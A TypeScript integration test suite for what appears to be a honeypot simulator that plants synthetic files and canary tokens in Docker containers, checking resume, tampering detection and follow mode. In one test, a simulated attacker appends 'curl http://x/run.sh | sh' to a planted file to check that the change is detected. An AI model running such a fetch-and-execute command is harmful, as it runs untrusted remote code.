// `run` against real containers: a 3-decky plan over two days applied and checked file by file
// against the plan and the state database; kill -9 midway and resume (each event once); a file
// changed behind our back; a stopped container; --follow with heartbeats and SIGTERM.
import { execa } from 'execa';
import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { DockerDriver } from '../src/live/docker.js';
import { bodyOf } from '../src/live/apply.js';
import type { TimelineEvent } from '../src/timeline/types.js';
import { BIN, ROOT, cli } from './helpers/cli.js';
import { RUN_TAG, cleanup, docker, execIn, liveEngine, startContainer, startSshListener, tempDir } from './helpers/docker.js';
import { IMAGE_LOGINS, type Scenario, diffFiles, expectedFiles, planned, presentCount, readState, runArgs, scenario } from './helpers/live.js';

const test = suite('live: run on real containers');
const PREFIX = `simtest-${RUN_TAG}-run-`;
const enabled = await liveEngine();
const dirs: string[] = [];

async function fleetOf(tag: string, n = 3): Promise<{ dir: string; names: string[] }> {
  const dir = tempDir(tag);
  dirs.push(dir);
  const names = Array.from({ length: n }, (_, i) => `${PREFIX}${tag}-${'abc'[i]}`);
  await Promise.all(names.map((c) => startContainer(c, { hostname: c.replace(PREFIX, '') })));
  return { dir, names };
}

async function checkAll(s: Scenario, events: TimelineEvent[]): Promise<void> {
  const want = expectedFiles(events);
  const problems: string[] = [];
  for (const d of s.deckies) problems.push(...(await diffFiles(d.container, want.get(d.name) ?? new Map(), d.docker)));
  assert.equal(problems, [], problems.slice(0, 5).join('\n'));
}

/** The state agrees with the plan: every event applied once, one file row per planted path. */
async function checkState(s: Scenario, events: TimelineEvent[]): Promise<void> {
  const st = await readState(s.state);
  try {
    const applied = st.rows<{ event_id: string; status: string }>('SELECT event_id, status FROM applied_events');
    // History rows for every event that made a call (quiet ticks only move the cursor).
    const calls = events.filter((e) => e.kind !== 'quiet');
    assert.is(applied.length, calls.length, 'one applied_events row per file or traffic event');
    assert.equal([...new Set(applied.map((r) => r.status))], ['applied']);
    assert.equal(new Set(applied.map((r) => r.event_id)), new Set(calls.map((e) => e.id)));
    // Quiet ticks move the cursor as skipped, never as applied.
    const cursor = st.rows<{ decky: string; tick: number; applied: number; skipped: number }>('SELECT decky, tick, applied, skipped FROM decky_cursor');
    for (const d of new Set(events.map((e) => e.decky.name))) {
      const mine = events.filter((e) => e.decky.name === d);
      const quiet = mine.filter((e) => e.kind === 'quiet').length;
      assert.equal(cursor.find((c) => c.decky === d), { decky: d, tick: mine[mine.length - 1]!.tick, applied: mine.length - quiet, skipped: quiet }, `cursor of ${d}`);
    }
    const want = expectedFiles(events);
    const files = st.rows<{ decky: string; path: string; content_sha256: string; edit_count: number }>('SELECT decky, path, content_sha256, edit_count FROM synthetic_files');
    assert.is(files.length, presentCount(want));
    for (const f of files) {
      const e = want.get(f.decky)!.get(f.path)!;
      assert.is(f.content_sha256, e.sha256, f.path);
      assert.is(f.edit_count, e.events - 1, `${f.path} edit_count`);
    }
    const orch = st.rows<{ n: number }>('SELECT COUNT(*) AS n FROM orchestrator_events')[0]!.n;
    assert.is(orch, events.filter((e) => e.kind !== 'quiet').length, 'one orchestrator event per file or traffic event');
    const canaries = events.filter((e) => e.canary);
    const tokens = st.rows<{ token_id: string; state: string; path: string }>('SELECT token_id, state, path FROM canary_tokens');
    assert.is(tokens.length, canaries.length);
    for (const t of tokens) assert.is(t.state, 'planted', t.token_id);
    assert.is(st.rows<{ n: number }>('SELECT COUNT(*) AS n FROM divergences')[0]!.n, 0);
  } finally {
    st.close();
  }
}

if (enabled) {
  test.after(async () => {
    await cleanup(PREFIX);
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });

  test('a 3-decky, 2-day plan: every planted file has the planned bytes, mode, owner and mtime; the state matches', async () => {
    const { dir, names } = await fleetOf('full');
    await startSshListener(names[0]!);
    const s = scenario(dir, names.map((c, i) => ({ name: `d${i}`, container: c })));
    const events = planned(s);
    assert.ok(events.filter((e) => e.action === 'file:edit').length >= 5, 'the plan has edits');
    assert.ok(events.some((e) => e.canary), 'the plan has canaries');
    const r = await cli(runArgs(s, ['--concurrency', '3']));
    assert.is(r.exitCode, 0, r.stderr + r.stdout);
    const sum = JSON.parse(r.stdout);
    const quiet = events.filter((e) => e.kind === 'quiet').length;
    assert.ok(quiet > 0, 'the plan has quiet ticks');
    assert.is(sum.applied, events.length - quiet, 'quiet ticks are not applied');
    assert.is(sum.quiet, quiet, 'quiet ticks are skipped');
    assert.is(sum.failed + sum.pending + sum.diverged, 0);
    assert.is(sum.canaries.planted, events.filter((e) => e.canary).length);
    await checkAll(s, events);
    await checkState(s, events);
    // Traffic: d0 has an SSH listener on its loopback, the others have none.
    const st = await readState(s.state);
    const traffic = st.rows<{ source: string; success: number; payload: string }>("SELECT source, success, payload FROM orchestrator_events WHERE kind = 'traffic'");
    st.close();
    assert.ok(traffic.length > 10);
    for (const t of traffic) {
      const p = JSON.parse(t.payload);
      if (t.source === 'd0') {
        assert.is(t.success, 1, t.payload);
        assert.is(p.banner, 'SSH-2.0-OpenSSH_9.2p1');
        assert.is(p.tool, 'nc');
      } else assert.is(t.success, 0);
    }
    // Re-running the same command applies nothing again.
    const again = await cli(runArgs(s));
    assert.is(again.exitCode, 0, again.stderr);
    const s2 = JSON.parse(again.stdout);
    assert.is(s2.applied, 0);
    assert.is(s2.skipped, events.length);
  });

  test('5 SIGKILLs at random points, then resume: each event applied exactly once, files and state agree', async () => {
    const { dir, names } = await fleetOf('kill');
    const s = scenario(dir, names.map((c, i) => ({ name: `k${i}`, container: c })), { seed: 'live-kill' });
    const events = planned(s);
    const doneNow = async (): Promise<number> => {
      try {
        const st = await readState(s.state);
        const n = st.rows<{ n: number }>("SELECT COUNT(*) AS n FROM applied_events WHERE status = 'applied'")[0]!.n;
        st.close();
        return n;
      } catch {
        return 0; // not created yet, or caught mid-save
      }
    };
    let done = 0;
    for (let kill = 0; kill < 5; kill++) {
      // A random point: after a random share of what is left (at least one more event).
      const target = done + 1 + Math.floor(Math.random() * ((events.length - done) * 0.15));
      const child = execa('node', [BIN, ...runArgs(s, ['--concurrency', String(1 + (kill % 2))])], { cwd: ROOT, reject: false });
      for (let i = 0; i < 1200 && done < target; i++) {
        await new Promise((r) => setTimeout(r, 20 + Math.random() * 80));
        done = Math.max(done, await doneNow());
      }
      child.kill('SIGKILL');
      const killed = await child;
      assert.is(killed.signal, 'SIGKILL', `kill ${kill + 1}: the run was killed, not finished`);
      done = await doneNow();
    }
    assert.ok(done > 0 && done < events.length, `killed midway (${done} of ${events.length} done)`);

    // A write that reached the container but not the state (killed between the two): the resumed
    // run must find it already there instead of writing it again or calling it a divergence.
    const st = await readState(s.state);
    const doneIds = new Set(st.rows<{ event_id: string }>("SELECT event_id FROM applied_events WHERE status IN ('applied', 'skipped')").map((r) => r.event_id));
    st.close();
    // The lane's first undone event by timeline position, not by time: a rotation's renames and
    // the create of the fresh log share one instant, and writing that create ahead of its renames
    // would be a write the engine never makes.
    const firstUndone = new Map<string, TimelineEvent>();
    for (const e of events) if (!doneIds.has(e.id) && !firstUndone.has(e.decky.uuid)) firstUndone.set(e.decky.uuid, e);
    const gap = [...firstUndone.values()].find((e) => e.action === 'file:create' && IMAGE_LOGINS.has(e.owner!));
    if (gap) {
      const c = s.deckies.find((d) => d.name === gap.decky.name)!.container;
      const w = await new DockerDriver().write({ container: c, docker: null, path: gap.path!, mode: gap.mode!, owner: gap.owner!, mtime: gap.mtime!, atime: gap.mtime!, dirTime: gap.mtime!, dirMode: '0755', expectSha: null, newSha: gap.content!.sha256, body: bodyOf(gap) });
      // 'already' when the killed run's last call had landed that very write before dying.
      assert.ok(w.status === 'wrote' || w.status === 'already', w.status);
    }

    const r = await cli(runArgs(s, ['--concurrency', '2']));
    const sum = JSON.parse(r.stdout);
    assert.is(sum.skipped + sum.applied + sum.quiet, events.length);
    assert.ok(sum.skipped >= done);
    if (gap) assert.ok(sum.already >= 1, 'the write left by the crash is recognised');
    if (sum.diverged !== 0) {
      const dv = await readState(s.state);
      const rows = dv.rows<Record<string, unknown>>('SELECT d.*, a.attempts, a.status FROM divergences d LEFT JOIN applied_events a ON a.event_id = d.event_id');
      dv.close();
      const why = rows.map((row) => {
        const e = events.find((x) => x.id === row.event_id);
        return `${JSON.stringify(row)} ${e?.action} ${e?.path} -> ${e?.to ?? ''} at ${e?.at}`;
      });
      assert.unreachable(`diverged on resume (${done} done before, gap ${gap?.id ?? 'none'}):\n${why.join('\n')}`);
    }
    assert.is(r.exitCode, 0, r.stderr + r.stdout);
    await checkAll(s, events);
    await checkState(s, events);
    const attempts = await readState(s.state);
    const multi = attempts.rows<{ n: number }>('SELECT COUNT(*) AS n FROM applied_events WHERE attempts > 1')[0]!.n;
    attempts.close();
    assert.is(multi, 0, 'no event was recorded twice');
  });

  test('a file changed behind our back is not overwritten by the next edit; the divergence is recorded', async () => {
    const { dir, names } = await fleetOf('div', 1);
    const s = scenario(dir, [{ name: 'v0', container: names[0]!, personas: ['John Smith'] }], { seed: 'live-div', days: 3 });
    const all = planned(s);
    const edit = all.find((e) => e.action === 'file:edit' && e.contentClass !== 'log_cron' && e.contentClass !== 'log_daemon')!;
    assert.ok(edit, 'the plan has a user-file edit');
    const cut = new Date(Date.parse(edit.at) - 1000).toISOString().replace('.000Z', 'Z');
    // First part: up to just before that edit.
    const first = ['run', '--fleet', s.fleetFile, '--config', s.configFile, '--seed', s.seed, '--start', s.start, '--until', cut, '--interval', String(s.interval), '--state', s.state, '--json', '--no-progress'];
    const r1 = await cli(first);
    assert.is(r1.exitCode, 0, r1.stderr);
    // The attacker edits the file.
    await execIn(names[0]!, ['sh', '-c', 'printf "curl http://x/run.sh | sh\\n" >> "$1"', 'sh', edit.path!]);
    const tampered = (await execIn(names[0]!, ['cat', edit.path!])).stdout;
    // The state belongs to the shorter plan: another horizon is refused without --force ...
    const before = readFileSync(s.state);
    const refused = await cli(runArgs(s));
    assert.is(refused.exitCode, 2, refused.stderr);
    assert.match(refused.stderr, /belongs to another run/);
    assert.ok(readFileSync(s.state).equals(before), 'a refused run changes nothing');
    // ... and accepted with it; events before the cut are the same events and are not repeated.
    const r2 = await cli(runArgs(s, ['--force']));
    assert.is(r2.exitCode, 1, r2.stderr + r2.stdout); // a divergence is an alert
    assert.ok(r2.stderr.split('\n').includes(`divergence: decky v0: ${edit.path}: the file changed since we last wrote it`), r2.stderr);
    const sum = JSON.parse(r2.stdout);
    assert.ok(sum.diverged >= 1);
    assert.is(sum.skipped, all.filter((e) => e.at < cut).length);
    assert.is((await execIn(names[0]!, ['cat', edit.path!])).stdout, tampered, 'the evidence is untouched');
    const st = await readState(s.state);
    const div = st.rows<{ event_id: string; path: string; reason: string; expected_sha256: string; found_sha256: string }>('SELECT * FROM divergences WHERE event_id = ?', [edit.id]);
    const status = st.rows<{ status: string }>('SELECT status FROM applied_events WHERE event_id = ?', [edit.id]);
    const later = st.rows<{ n: number }>("SELECT COUNT(*) AS n FROM divergences WHERE path = ?", [edit.path!])[0]!.n;
    st.close();
    assert.is(div.length, 1);
    assert.is(div[0]!.path, edit.path);
    assert.is(div[0]!.expected_sha256, edit.previousSha256);
    assert.is(div[0]!.found_sha256, (await execIn(names[0]!, ['sha256sum', edit.path!])).stdout.split(' ')[0]);
    assert.equal(status, [{ status: 'diverged' }]);
    assert.is(later, all.filter((e) => e.action === 'file:edit' && e.path === edit.path && e.at >= edit.at).length, 'every later edit of it diverges too');
  });

  test('a stopped container: its events fail and are recorded, the others complete; after docker start, resume completes', async () => {
    const { dir, names } = await fleetOf('stop');
    const s = scenario(dir, names.map((c, i) => ({ name: `s${i}`, container: c })), { seed: 'live-stop', days: 1 });
    const events = planned(s);
    await docker(['stop', '-t', '1', names[2]!]);
    const r = await cli(runArgs(s));
    assert.is(r.exitCode, 3, r.stderr + r.stdout);
    const sum = JSON.parse(r.stdout);
    assert.is(sum.deckies.s2.failed, 1);
    assert.match(sum.deckies.s2.error, /not running|is not running|No such container/i);
    assert.ok(sum.deckies.s2.pending > 0);
    // Quiet events need no call: those before s2's first call are skipped (not applied: nothing
    // reached the stopped container), everything after it waits.
    const mine = events.filter((e) => e.decky.name === 's2');
    const firstCall = mine.findIndex((e) => e.kind !== 'quiet');
    assert.is(sum.deckies.s2.applied, 0);
    assert.is(sum.deckies.s2.quiet, firstCall);
    assert.is(sum.deckies.s2.pending, mine.length - firstCall - 1);
    for (const d of ['s0', 's1']) {
      const theirs = events.filter((e) => e.decky.name === d);
      assert.is(sum.deckies[d].applied + sum.deckies[d].quiet, theirs.length, d);
      assert.is(sum.deckies[d].quiet, theirs.filter((e) => e.kind === 'quiet').length, d);
      assert.is(sum.deckies[d].failed + sum.deckies[d].pending, 0, d);
    }
    let st = await readState(s.state);
    const failed = st.rows<{ decky: string; status: string; error: string }>("SELECT decky, status, error FROM applied_events WHERE status = 'failed'");
    st.close();
    assert.is(failed.length, 1);
    assert.is(failed[0]!.decky, 's2');
    // What docker itself printed is kept in the recorded error, not only in the report.
    assert.match(failed[0]!.error, /docker exited with code \d+: .*(is not running|No such container)/i);
    await docker(['start', names[2]!]);
    const r2 = await cli(runArgs(s));
    assert.is(r2.exitCode, 0, r2.stderr + r2.stdout);
    const sum2 = JSON.parse(r2.stdout);
    assert.is(sum2.failed + sum2.pending, 0);
    assert.is(sum2.applied + sum2.skipped + sum2.quiet, events.length);
    await checkAll(s, events);
    st = await readState(s.state);
    const retried = st.rows<{ status: string; attempts: number }>('SELECT status, attempts FROM applied_events WHERE attempts > 1');
    st.close();
    assert.equal(retried, [{ status: 'applied', attempts: 2 }], 'the failed event was retried once and then applied');
  });

  test('progress on stderr (not a terminal): a line every few seconds naming the event being worked on, moving through the plan; --no-progress is silent', async () => {
    const { dir, names } = await fleetOf('prog', 1);
    const s = scenario(dir, [{ name: 'p0', container: names[0]! }], { seed: 'live-prog', days: 1 });
    const events = planned(s);
    const env = { DECNET_SIM_PROGRESS_SECONDS: '0.2' };
    const r = await cli(runArgs(s).filter((a) => a !== '--no-progress'), { env });
    assert.is(r.exitCode, 0, r.stderr);
    JSON.parse(r.stdout);
    const lines = r.stderr.split('\n').filter((l) => l.startsWith('progress: '));
    assert.ok(lines.length >= 3, r.stderr);
    const actions = '(?:file:create|file:edit|file:rename|file:delete|exec:tcp_connect:22|leave-alone)';
    const shape = new RegExp(`^progress: \\[[#.]{24}\\] +\\d+% {2}applied (\\d+) {2}skipped (\\d+) {2}failed 0( {2}[\\d,]+ events/s)?( {2}ETA \\S+)? {2}(?:on|last) p0 ${actions}(?: /\\S+)? \\((\\S+)\\)$`);
    const seen = lines.map((l) => {
      const m = shape.exec(l);
      assert.ok(m, l);
      return { done: Number(m![1]) + Number(m![2]), at: m![5]! };
    });
    const ats = seen.map((x) => x.at);
    assert.equal(ats, [...ats].sort(), 'the event shown moves forward in plan time');
    assert.ok(new Set(ats).size >= 3, `the event shown changes: ${ats.join(' ')}`);
    assert.ok(ats[0]! < events[events.length - 1]!.at, 'not stuck at the end of the plan while the lanes work');
    assert.ok(seen.every((x, i) => i === 0 || x.done >= seen[i - 1]!.done), 'counts grow');
    assert.ok(events.some((e) => e.at === ats[0]), 'the time shown is an event of the plan');
    // The same run on a fresh container and state, with --no-progress.
    const other = await fleetOf('prog2', 1);
    const s2 = scenario(other.dir, [{ name: 'p0', container: other.names[0]! }], { seed: 'live-prog', days: 1 });
    const quiet = await cli(runArgs(s2), { env });
    assert.is(quiet.exitCode, 0, quiet.stderr);
    assert.not.match(quiet.stderr, /progress: /);
  });

  test('run --timeline replays a recorded plan on real containers, then resumes as a no-op', async () => {
    const { dir, names } = await fleetOf('tl', 2);
    const s = scenario(dir, names.map((c, i) => ({ name: `t${i}`, container: c })), { seed: 'live-tl', days: 1 });
    const tl = join(dir, 'plan.ndjson');
    const p = await cli(['plan', '--fleet', s.fleetFile, '--config', s.configFile, '--seed', s.seed, '--start', s.start, '--days', '1', '--interval', String(s.interval), '--format', 'ndjson', '--out', tl]);
    assert.is(p.exitCode, 0, p.stderr);
    const events = planned(s);
    const r = await cli(['run', '--timeline', tl, '--state', s.state, '--json', '--no-progress', '--create-users']);
    assert.is(r.exitCode, 0, r.stderr + r.stdout);
    const sum = JSON.parse(r.stdout);
    assert.is(sum.source, 'timeline');
    assert.is(sum.applied + sum.quiet, events.length);
    assert.is(sum.quiet, events.filter((e) => e.kind === 'quiet').length);
    await checkAll(s, events);
    await checkState(s, events);
    const again = await cli(['run', '--timeline', tl, '--state', s.state, '--json', '--no-progress']);
    assert.is(JSON.parse(again.stdout).skipped, events.length);
  });

  test('run --follow: backfills, heartbeats to the state, stops cleanly on SIGTERM with exit 0', async () => {
    const { dir, names } = await fleetOf('follow', 2);
    const s = scenario(dir, names.map((c, i) => ({ name: `f${i}`, container: c })), { seed: 'live-follow', interval: 900 });
    const args = ['run', '--fleet', s.fleetFile, '--config', s.configFile, '--seed', s.seed, '--interval', '900', '--state', s.state, '--follow', '--backfill', '3h', '--heartbeat', '1', '--json', '--no-progress', '--create-users'];
    const child = execa('node', [BIN, ...args], { cwd: ROOT, reject: false });
    let beats = 0;
    for (let i = 0; i < 300 && beats < 3; i++) {
      await new Promise((r) => setTimeout(r, 100));
      try {
        const st = await readState(s.state);
        beats = st.rows<{ n: number }>('SELECT COUNT(*) AS n FROM heartbeat')[0]!.n;
        st.close();
      } catch {
        /* not yet */
      }
    }
    assert.ok(beats >= 3, `heartbeats written (${beats})`);
    child.kill('SIGTERM');
    const r = await child;
    assert.is(r.exitCode, 0, String(r.stderr));
    const sum = JSON.parse(String(r.stdout));
    assert.is(sum.mode, 'follow');
    assert.ok(sum.applied > 0);
    const st = await readState(s.state);
    const hb = st.rows<{ time: string; applied: number; failures: number; next_event: string | null }>('SELECT * FROM heartbeat ORDER BY time');
    const meta = Object.fromEntries(st.rows<{ key: string; value: string }>('SELECT key, value FROM meta').map((m) => [m.key, m.value]));
    const applied = st.rows<{ at: string }>("SELECT at FROM applied_events WHERE status = 'applied' ORDER BY at DESC LIMIT 1");
    st.close();
    assert.ok(hb.length >= 3);
    assert.ok(hb.some((h) => h.next_event !== null && Date.parse(h.next_event) > Date.parse(h.time) - 5000), 'the heartbeat names the next event, due after now');
    assert.is(meta.source, 'follow');
    assert.ok(Date.parse(applied[0]!.at) <= Date.now(), 'only past events ran');
    assert.ok(Math.abs(Date.parse(meta.start!) - (Date.now() - 3 * 3_600_000)) < 120_000, 'the plan started 3 h ago');
    // Restarting the service continues the same plan (same start), without repeating anything.
    const again = execa('node', [BIN, ...args], { cwd: ROOT, reject: false });
    // Stop it once it is running (it says so when it resumes), not at a fixed time.
    let said = '';
    again.stderr?.on('data', (b: Buffer) => (said += b.toString()));
    for (let i = 0; i < 600 && !/resuming: /.test(said); i++) await new Promise((r) => setTimeout(r, 100));
    assert.match(said, /resuming: /);
    await new Promise((r) => setTimeout(r, 500));
    again.kill('SIGTERM');
    const r2 = await again;
    assert.is(r2.exitCode, 0, String(r2.stderr));
    const sum2 = JSON.parse(String(r2.stdout));
    assert.ok(sum2.skipped >= sum.applied, 'nothing applied again after a restart');
    assert.is(sum2.start, sum.start);
  });
} else {
  test.skip('live tests skipped: no Docker engine', () => {});
}

test.run();
